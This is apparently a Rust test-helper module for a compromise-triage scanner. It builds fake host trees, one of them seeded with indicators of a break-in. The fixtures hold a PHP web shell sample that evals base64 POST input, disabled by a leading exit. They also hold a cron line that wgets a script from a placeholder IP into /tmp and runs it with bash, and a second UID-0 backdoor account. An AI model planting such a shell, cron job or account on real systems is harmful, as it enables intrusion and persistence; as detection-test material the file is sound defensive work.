//! A folder, a host in it, and the program.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A test's own corner of the world.
pub struct TestEnvironment {
    folder: tempfile::TempDir,
}

/// What a call of the program gave.
pub struct Answer {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl TestEnvironment {
    pub fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap() }
    }

    /// A path in the test's folder.
    pub fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// The host's root, `host/` in the test's folder.
    pub fn host(&self) -> PathBuf {
        self.at("host")
    }

    /// Puts a file into the host.
    pub fn put(&self, path: &str, content: impl AsRef<[u8]>) -> PathBuf {
        self.put_with(path, 0o644, content)
    }

    /// Puts a file with a mode into the host.
    pub fn put_with(&self, path: &str, mode: u32, content: impl AsRef<[u8]>) -> PathBuf {
        let path = self.host().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
        path
    }

    /// A small host that nobody has broken into.
    pub fn clean_host(&self) {
        self.put("etc/machine-id", "0123456789abcdef0123456789abcdef\n");
        self.put("etc/hostname", "pbx-test\n");
        self.put("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
        self.put_with(
            "etc/shadow",
            0o640,
            "root:$6$test$no-hash-of-anything:20000:0:99999:7:::\nwww-data:*:20000::::::\n",
        );
        self.put("etc/crontab", "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n");
        self.put("var/www/html/index.php", "<?php\nheader('Location: /admin');\n");
    }

    /// The same host with a web shell, a cron job that fetches it again, and a second root account.
    pub fn broken_host(&self) {
        self.clean_host();
        self.put("var/www/html/uploads/img.php", SHELL);
        self.put_with("var/spool/cron/crontabs/www-data", 0o600, CRONTAB);
        self.put("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nnewfpbxs:x:0:0::/root:/bin/bash\n");
        self.put_with(
            "etc/shadow",
            0o640,
            "root:$6$test$no-hash-of-anything:20000:0:99999:7:::\nwww-data:*:20000::::::\nnewfpbxs:$6$test$no-hash-either:20000::::::\n",
        );
    }

    /// Calls the program with these words.
    pub fn triage<I, S>(&self, words: I) -> Answer
    where
        I: IntoIterator<Item = S>,
        S: AsRef<std::ffi::OsStr>,
    {
        let output: Output = Command::new(env!("CARGO_BIN_EXE_triage"))
            .env_clear()
            .env("TRIAGE_STATE", self.at("state"))
            .current_dir(self.folder.path())
            .stdin(std::process::Stdio::null())
            .args(words)
            .output()
            .unwrap();
        Answer {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    /// The findings of a target: (rule, where it is), sorted, and the exit code.
    pub fn findings(&self, target: &Path) -> (Vec<(String, String, String)>, i32) {
        let answer = self.triage(["scan".as_ref(), target.as_os_str(), "--format".as_ref(), "jsonl".as_ref()]);
        let mut found: Vec<_> = answer
            .stdout
            .lines()
            .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
            .filter(|line| line["kind"] == "finding")
            .map(|line| {
                let text = |value: &serde_json::Value| value.as_str().unwrap().to_owned();
                (text(&line["id"]), text(&line["rule"]), text(&line["subject"]["path"]))
            })
            .collect();
        found.sort();
        (found, answer.code)
    }
}

impl Answer {
    /// Makes sure of the exit code, and shows everything when it is another.
    #[track_caller]
    pub fn expect(self, code: i32) -> Self {
        assert_eq!(self.code, code, "stdout:\n{}\nstderr:\n{}", self.stdout, self.stderr);
        self
    }
}

/// Inert: it ends before it begins.
pub const SHELL: &str = "<?php exit; // inert sample\n@eval(base64_decode($_POST['c']));\n";
/// One honest line, one that fetches a script from a documentation address.
pub const CRONTAB: &str = "09,39 * * * * [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n* * * * * wget -q http://192.0.2.66/k.php -O /tmp/.k && bash /tmp/.k\n";

/// Everything about a tree that a rollback promises: type, mode, owner, modification time, content or link target, by path.
pub fn snapshot(root: &Path) -> std::collections::BTreeMap<PathBuf, String> {
    use std::os::unix::fs::MetadataExt as _;
    let mut seen = std::collections::BTreeMap::new();
    let mut folders = vec![root.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let found = fs::symlink_metadata(&path).unwrap();
            let content = if found.is_dir() {
                folders.push(path.clone());
                Vec::new()
            } else if found.is_file() {
                fs::read(&path).unwrap()
            } else {
                fs::read_link(&path).map(|target| target.into_os_string().into_encoded_bytes()).unwrap_or_default()
            };
            let state = format!(
                "{:o} {}:{} {}.{:09} {:?}",
                found.mode(),
                found.uid(),
                found.gid(),
                found.mtime(),
                found.mtime_nsec(),
                content
            );
            seen.insert(path, state);
        }
    }
    seen
}
